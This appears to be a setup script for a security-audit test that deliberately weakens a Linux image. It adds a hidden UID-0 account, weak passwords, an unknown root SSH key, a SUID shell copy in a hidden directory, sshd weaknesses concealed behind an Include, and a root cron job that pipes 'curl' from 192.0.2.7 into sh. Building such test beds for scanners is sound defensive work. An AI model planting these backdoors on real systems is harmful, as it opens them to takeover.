# Made weak on purpose, before the first boot. Each block plants what weak.yaml lists under the same words.
# accounts
printf 'toor:x:0:0:second root:/root:/bin/bash\n' >>/etc/passwd
printf 'toor:*:19000:0:99999:7:::\n' >>/etc/shadow
useradd -m -s /bin/bash nurse && printf 'nurse:nurse123\n' | chpasswd -c YESCRYPT
useradd -m -s /bin/bash clerk && printf 'clerk:Yiyuan@2024\n' | chpasswd -c SHA512
useradd -m -s /bin/bash old && printf 'old:123456\n' | chpasswd -c MD5
useradd -m -s /bin/bash empty && passwd -q -d empty
useradd -m -s /bin/bash guest && printf 'guest:guest\n' | chpasswd -c SHA512
chmod 0777 /home/clerk
printf '+ +\n' >/home/nurse/.rhosts && chown nurse: /home/nurse/.rhosts
mkdir -p /root/.ssh && chmod 700 /root/.ssh
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJhZGtleWJhZGtleWJhZGtleWJhZGtleWJhZGtl stranger@nowhere\n' >/root/.ssh/authorized_keys
sed -i 's/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 99999/' /etc/login.defs
# sudo
printf 'nurse ALL=(ALL) NOPASSWD: ALL\n' >/etc/sudoers.d/nurse && chmod 440 /etc/sudoers.d/nurse
# ssh: the weak options stand behind an Include, where a grep of sshd_config does not see them
mkdir -p /etc/ssh/sshd_config.d
cat >/etc/ssh/sshd_config.d/zz-weak.conf <<'EOF'
PermitRootLogin yes
PermitEmptyPasswords yes
MaxAuthTries 20
X11Forwarding yes
HostbasedAuthentication yes
IgnoreRhosts no
Ciphers aes128-cbc,3des-cbc,aes256-ctr
MACs hmac-md5,hmac-sha2-256
KexAlgorithms diffie-hellman-group1-sha1,curve25519-sha256
EOF
chmod 0666 /etc/ssh/ssh_host_ed25519_key.pub
# files
mkdir -p /usr/lib/.cache && cp /bin/dash /usr/lib/.cache/update && chmod 4755 /usr/lib/.cache/update
chmod 0666 /etc/shadow
mkdir -p /srv/share && chmod 0777 /srv/share
printf 'patients\n' >/srv/list.txt && chmod 0666 /srv/list.txt
printf 'x\n' >/srv/orphan && chown 4242:4242 /srv/orphan
printf 'odd\n' >"/srv/two
lines" && chmod 0666 "/srv/two
lines"
# trust and services
printf '+ +\n' >/etc/hosts.equiv
printf 'rocommunity public\nagentaddress udp:161\n' >/etc/snmp/snmpd.conf
printf 'telnet stream tcp nowait root /usr/sbin/tcpd /usr/sbin/telnetd\n' >>/etc/inetd.conf
printf 'listen=YES\nanonymous_enable=YES\nanon_upload_enable=YES\nwrite_enable=YES\n' >/etc/vsftpd.conf
printf '/srv/share *(rw,no_root_squash)\n' >/etc/exports
# start-up and jobs
printf '#!/bin/sh\ntrue\n' >/opt/nightly.sh && chmod 0777 /opt/nightly.sh
printf '* * * * * root /opt/nightly.sh\n' >/etc/cron.d/nightly
printf '*/5 * * * * root curl -s http://192.0.2.7/x | sh\n' >/etc/cron.d/fetch
cp /lib/x86_64-linux-gnu/libutil.so.1 /usr/local/lib/libaudit-log.so && printf '/usr/local/lib/libaudit-log.so\n' >/etc/ld.so.preload
# time, packages, logs
systemctl disable -q chrony nftables
printf 'deb [trusted=yes] http://192.0.2.9/debian bookworm main\n' >/etc/apt/sources.list.d/odd.list
printf 'Debian GNU/Linux 12\n' >/etc/issue.net
# boot
mkdir -p /boot/grub && printf 'set timeout=5\n' >/boot/grub/grub.cfg && chmod 0666 /boot/grub/grub.cfg
